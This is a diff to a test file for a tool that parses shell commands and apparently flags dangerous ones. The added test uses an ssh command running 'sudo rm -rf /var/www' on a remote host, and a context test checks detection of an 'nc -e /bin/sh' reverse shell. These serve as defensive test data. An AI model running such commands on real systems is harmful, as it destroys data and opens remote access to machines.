@@ -260,6 +260,14 @@ describe("network", () => {
     });
   });
 
+  it("parses the command ssh runs on the remote host", () => {
+    const f = facts("ssh -p 2222 deploy@prod.example 'sudo rm -rf /var/www'");
+    expect(f.hosts).toEqual(["prod.example"]);
+    expect(f.commands.find((c) => c.program === "rm")?.via).toEqual(["ssh prod.example", "sudo"]);
+    expect(f.targetsSystem).toBe(true);
+    expect(facts("ssh prod.example").commands.map((c) => c.program)).toEqual(["ssh"]);
+  });
+
   it("finds a reverse shell in nc -e", () => {
     expect(facts("nc -e /bin/sh 10.0.0.1 4444").dangerousCalls).toEqual([
       { interpreter: "nc", call: "exec" },
